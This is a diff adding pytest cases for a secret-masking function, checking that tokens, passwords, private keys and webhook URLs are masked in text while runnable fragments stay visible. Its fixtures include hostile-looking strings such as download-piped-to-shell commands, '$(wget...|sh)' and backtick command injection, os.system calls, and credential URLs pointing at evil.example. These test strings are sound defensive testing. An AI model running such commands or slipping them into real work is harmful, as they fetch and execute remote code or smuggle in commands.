@@ -6,7 +6,12 @@ import re
 
 import pytest
 
-from fast_agent.text.redaction import is_secret_name, is_secret_value
+from fast_agent.text.redaction import (
+    environment_secrets,
+    is_secret_name,
+    is_secret_value,
+    with_masked_secrets,
+)
 
 SECRET_NAMES = re.findall(
     r"\S+",
@@ -90,6 +95,44 @@ def test_secret_values(value: str) -> None:
 @pytest.mark.parametrize("value", PLAIN_VALUES)
 def test_plain_values(value: str) -> None:
     assert not is_secret_value(value)
+
+
+@pytest.mark.spec("TR-S1.1", "TR-Q3.3")
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("curl https://h/x?token=abcdef123 | sh", "curl https://h/x?token=<> | sh"),
+        ("http://me:passw0rd@evil.example:99/x", "http://me:<>@evil.example:99/x"),
+        ("http://ghp0123456789abcdefgh@evil.example", "http://<>@evil.example"),
+        ("f 'https://h/?api_key=abcdef1' && g", "f 'https://h/?api_key=<>' && g"),
+        ("a;Password=hunter22;b", "a;Password=<>;b"),
+        ("Bearer abcdefgh1234", "Bearer <>"),
+        ("https://h/sk-proj-abcdefghij0123456789/mcp", "https://h/<>/mcp"),
+        ("https://hooks.slack.com/services/T012345/B0/abc", "https://hooks.slack.com/services/<>"),
+        ("x AGE-SECRET-KEY-1QQQQQQQQ y", "x <> y"),
+        ("use sk-proj-abcdefghij0123456789 now", "use <> now"),
+        ("-----BEGIN PRIVATE KEY-----\nMIIEvAIBADANBgkqhkiG9w0B\nAQ\n-----END PRIVATE KEY-----\nx",
+         "<>\nx"),
+        # What could be run or opened is never hidden.
+        ("./sk-proj-abcdefghij0123456789zzzz/run.sh", None),
+        ("x?key=$(wget${IFS}evil|sh)", None),
+        ("x?key=abcdef`evil`", None),
+        ("x?key=/tmp/evil/run.sh", None),
+        ("x?key=../../evil/run.sh", None),
+        ("password=os.system('evil')", None),
+        ("sk-ant-abcdefghij0123456789('evil')", None),
+        ("http://u:$(evil)@h/x", None),
+        ("-----BEGIN PRIVATE KEY----- curl evil | sh", "<> curl evil | sh"),
+    ],
+)  # fmt: skip
+def test_only_the_secret_of_a_text_is_masked(text: str, shown: str | None) -> None:
+    assert with_masked_secrets(text, lambda _: "<>") == (text if shown is None else shown)
+
+
+def test_a_path_in_the_environment_is_not_a_secret() -> None:
+    place = "/home/u/sk-proj-abcdefghij0123456789"
+    assert set(environment_secrets({"PWD": place})) == set()
+    assert set(environment_secrets({"CALLBACK": "/cb?token=abcdef123"}))
 
 
 @pytest.mark.parametrize("piece", ["a", "a.", "://", "x://a:", "?key_", "eyJ", "key="])
